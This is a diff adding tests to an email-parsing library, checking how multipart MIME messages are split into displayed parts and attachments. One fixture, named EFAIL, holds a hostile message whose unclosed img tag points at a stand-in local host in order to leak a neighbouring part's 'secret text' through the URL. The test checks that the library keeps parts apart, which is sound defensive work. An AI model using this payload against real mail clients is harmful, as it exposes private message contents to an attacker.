@@ -56,3 +56,95 @@ test('nesting past the MIME limit still shows the headers, marked truncated', as
   assert.equal(display.subject, 'Deep');
   assert.deepEqual(display.from, [{ name: 'Mallory', address: 'm@example.org' }]);
 });
+
+const EFAIL = crlf([
+  'From: Mallory <m@example.org>',
+  'Subject: Three parts',
+  'MIME-Version: 1.0',
+  'Content-Type: multipart/mixed; boundary="e"',
+  '',
+  '--e',
+  'Content-Type: text/html; charset=utf-8',
+  '',
+  '<img src="http://127.0.0.1:9/leak?d=',
+  '--e',
+  'Content-Type: text/html; charset=utf-8',
+  '',
+  '<p>the secret text</p>',
+  '--e',
+  'Content-Type: text/plain; charset=utf-8',
+  '',
+  'A plain word.',
+  '--e',
+  'Content-Type: text/html; charset=utf-8',
+  '',
+  '">end',
+  '--e--',
+]);
+
+test('sibling parts of a mixed message stay apart, in order, plain and HTML alike', async () => {
+  const display = await readMessageForDisplay(stream(EFAIL));
+  assert.deepEqual(
+    display.parts.map((part) => (part.kind === 'html' ? ['html', part.html.trim()] : ['text', part.text.trim()])),
+    [
+      ['html', '<img src="http://127.0.0.1:9/leak?d='],
+      ['html', '<p>the secret text</p>'],
+      ['text', 'A plain word.'],
+      ['html', '">end'],
+    ],
+  );
+  assert.equal(display.html, null, 'no single document joins the parts');
+  assert.equal(display.omittedParts, 0);
+});
+
+test('multipart/alternative gives its last alternative only; an attachment stays an attachment', async () => {
+  const display = await readMessageForDisplay(
+    stream(
+      crlf([
+        'From: a@example.org',
+        'Subject: Alt',
+        'MIME-Version: 1.0',
+        'Content-Type: multipart/mixed; boundary="m"',
+        '',
+        '--m',
+        'Content-Type: multipart/alternative; boundary="a"',
+        '',
+        '--a',
+        'Content-Type: text/plain',
+        '',
+        'plain version',
+        '--a',
+        'Content-Type: text/html',
+        '',
+        '<p>rich version</p>',
+        '--a--',
+        '--m',
+        'Content-Type: text/html; charset=utf-8',
+        'Content-Disposition: attachment; filename="page.html"',
+        '',
+        '<p>an attached page</p>',
+        '--m',
+        'Content-Type: text/plain; charset=utf-8',
+        '',
+        'Signature line.',
+        '--m--',
+      ]),
+    ),
+  );
+  assert.deepEqual(
+    display.parts.map((part) => (part.kind === 'html' ? part.html.trim() : part.text.trim())),
+    ['<p>rich version</p>', 'Signature line.'],
+  );
+  assert.deepEqual(
+    display.attachments.map((attachment) => [attachment.fileName, attachment.contentType, attachment.inline]),
+    [['page.html', 'text/html', false]],
+  );
+});
+
+test('a single HTML body is also given as the message HTML', async () => {
+  const display = await readMessageForDisplay(
+    stream(crlf(['From: a@example.org', 'Subject: One', 'MIME-Version: 1.0', 'Content-Type: text/html', '', '<p>only</p>'])),
+  );
+  assert.equal(display.html?.trim(), '<p>only</p>');
+  assert.equal(display.parts.length, 1);
+});
